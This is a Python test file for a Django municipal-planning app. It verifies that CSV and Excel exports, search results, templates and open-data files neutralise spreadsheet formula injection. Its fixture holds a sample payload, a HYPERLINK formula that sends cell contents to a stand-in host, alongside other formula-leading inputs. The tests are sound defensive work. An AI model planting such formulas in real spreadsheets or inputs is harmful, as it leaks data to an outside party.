"""Every table that leaves the program: what people typed never becomes a formula in a spreadsheet (OWASP)."""

import csv
import datetime as dt
import io

import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from evaluations.choices import RoundKind
from evaluations.rounds import enter, open_round
from objectives.workflow import amend
from organisation.models import Sector
from tests.results import result
from tests.this_year import YEAR, approved_plan, full_sheet, rewritten, sheet_of

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://esempio.invalid/?"&A1,"apri")'
SIGNS = ("=", "+", "-", "@", "\t", "\r")
OUT = {
    "acts_file": {}, "changes_file": {}, "validations_file": {},
    "plan_file": {"year": YEAR}, "plan_on_file": {"year": YEAR, "day": f"{YEAR}-06-30"},
    "plan_after_file": {"year": YEAR, "act": f"gc-8-{YEAR}"},
    "round_file": {"year": YEAR, "kind": "intermedia"},
}  # fmt: skip
"""The tables by the name of their address, which ends with the form of the file."""


@pytest.fixture
def exported(caluso, ufficio, segretario, signed_in):
    """A function that fetches a file. Wherever somebody could type, a formula was typed."""
    evil = {"title": EVIL, "description": "@SUM(A1)", "dup_link": "+1", "manager": "-2"}
    plan = approved_plan(caluso, full_sheet(1, weight=50, **evil), full_sheet(2, weight=50), subject=EVIL)
    caluso.published = True
    caluso.save()
    ufficio.memberships.get().sectors.add(Sector.objects.get(name="FINANZIARIO"))
    verification = open_round(plan, RoundKind.INTERMEDIA, on=dt.date(YEAR, 1, 1), by=segretario)
    enter(verification, [result(sheet_of(plan, 1), 1, achieved=EVIL)], by=ufficio)
    rewritten(amend(sheet_of(plan, 2), by=ufficio), ufficio, title=EVIL)
    client = signed_in(ufficio)

    def fetch(path):
        answer = client.get(path)
        assert answer.status_code == 200, path
        return answer.content

    return fetch


def rows_of(table):
    """The rows of a .csv as Excel in Italy reads them."""
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), delimiter=";"))


def texts_of(workbook):
    """The cells of text of a workbook; none is a formula."""
    cells = [cell for sheet in load_workbook(io.BytesIO(workbook)) for row in sheet for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell for cell in cells if cell.data_type == "s"]


def test_every_table_with_a_form_is_tried_here():
    known = get_resolver().reverse_dict
    forms = {name for name in known if isinstance(name, str) and "form" in known.getlist(name)[0][0][0][1]}
    assert forms == set(OUT)


@pytest.mark.parametrize("name", OUT)
def test_no_table_holds_a_formula(name, exported):
    def address(form):
        return reverse(name, kwargs={"slug": "caluso", "form": form, **OUT[name]})

    rows = rows_of(exported(address("csv")))
    assert [cell for row in rows for cell in row if cell.startswith(SIGNS) and not is_number(cell)] == []
    unguarded = [cell.coordinate for cell in texts_of(exported(address("xlsx"))) if unsafe(cell)]
    assert unguarded == []


def test_nor_do_the_search_the_template_and_the_open_data(exported):
    sector = Sector.objects.get(name="FINANZIARIO").pk
    for path in ("/caluso/cerca/xlsx/?q=apri", f"/caluso/piano/{YEAR}/schede-da-file/modello/{sector}/"):
        cells = texts_of(exported(path))
        assert EVIL in [cell.value for cell in cells], path
        assert [cell.coordinate for cell in cells if unsafe(cell)] == [], path
    rows = rows_of(exported(f"/trasparenza/caluso/{YEAR}/obiettivi.csv"))
    assert f"'{EVIL}" in [cell for row in rows for cell in row]
    assert [cell for row in rows for cell in row if cell.startswith(SIGNS)] == []


def is_number(cell):
    """Whether a cell of a .csv is a number below zero, as an office writes it."""
    return cell[1:].replace(",", "", 1).isdecimal()


def unsafe(cell):
    """Whether a cell becomes a formula as soon as somebody edits it."""
    return str(cell.value).startswith(("=", "+", "-", "@")) and not cell.quotePrefix
